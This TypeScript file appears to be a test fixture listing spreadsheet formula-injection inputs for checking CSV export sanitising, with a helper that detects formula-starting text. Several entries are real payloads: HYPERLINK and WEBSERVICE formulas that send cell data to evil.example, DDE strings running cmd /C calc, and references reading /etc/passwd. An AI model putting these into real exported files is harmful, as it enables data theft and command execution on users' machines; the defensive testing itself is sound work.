/**
 * Words that a spreadsheet could take for more than words: every sign that begins a formula, alone and behind what is skipped or hides it, calls
 * that reach out of the sheet, what ends a field of a CSV or opens the next, and digits that are none to calculate with.
 */
export const hostileCells: Readonly<Record<string, string>> = {
  '=': '=1+1+1',
  '+': '+1+1+1',
  '-': '-1-1-1',
  '@': '@SUM(1,2)',
  'full-width =': '＝1+1+1',
  'full-width +': '＋1+1+1',
  'full-width -': '－1－1－1',
  'full-width @': '＠SUM(1,2)',
  'a tabulator before': '\t=1+1+2',
  'a carriage return before': '\r=1+1+3',
  'a line feed before': '\n=1+1+4',
  'blanks before': '   =1+1+5',
  'an ideographic space before': '\u3000=1+1+6',
  'a byte order mark before': '\uFEFF=1+1+7',
  'a zero-width space before': '\u200B=1+1+8',
  'an apostrophe before': "'=1+1+9",
  'two apostrophes before': "''=1+1+10",
  'a quote before': '"=1+1+11',
  'a quote and a comma before': '",=1+1+12,"',
  'a quote and a new line before': '"\n=1+1+13',
  'a semicolon before': ';=1+1+14',
  'a comma before': ',=1+1+15',
  'a second line': '公司\n=1+1+16\n二',
  'a second line of Windows': '公司\r\n=1+1+17',
  hyperlink: '=HYPERLINK("http://evil.example/?"&A1,"看")',
  'hyperlink of lower case': '=hyperlink("http://evil.example/2","看")',
  'a web service': '=WEBSERVICE("http://evil.example/3")',
  'another sheet': "='file:///etc/passwd'#$Sheet1.A1",
  'an external book': "='[evil.xlsx]Sheet1'!A1",
  'dynamic data exchange': "=cmd|' /C calc'!A0",
  'dynamic data exchange behind a plus': "+cmd|' /C calc'!A0",
  'dynamic data exchange behind an at sign': "@SUM(1+1)*cmd|' /C calc'!A0",
  'dynamic data exchange as a function': '=DDE("soffice";"/etc/passwd";"A1")',
  'an array': '{=1+1+18}',
  'of OpenDocument': 'of:=1+1+19',
  'an address': 'http://evil.example/4',
  markup: '<f>1+1</f></t></is></c>',
  'an entity': '&#61;1+1+20',
  'an escape of OOXML': '_x003D_1+1+21',
  'leading noughts': '00123456',
  'a number with an exponent': '1234E567',
  'a day': '2026-1-2',
  'twenty digits': '12345678901234567890',
  'a truth': 'TRUE()',
};

const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/** Whether words must not stand first in a cell that is saved as CSV and opened again; told apart from the product's rule. */
export function beginsFormula(text: string): boolean {
  const bare = text.replace(/^'+/, '');
  return signs.includes(bare.charAt(0)) || (bare.startsWith('_x') && bare.charAt(6) === '_');
}
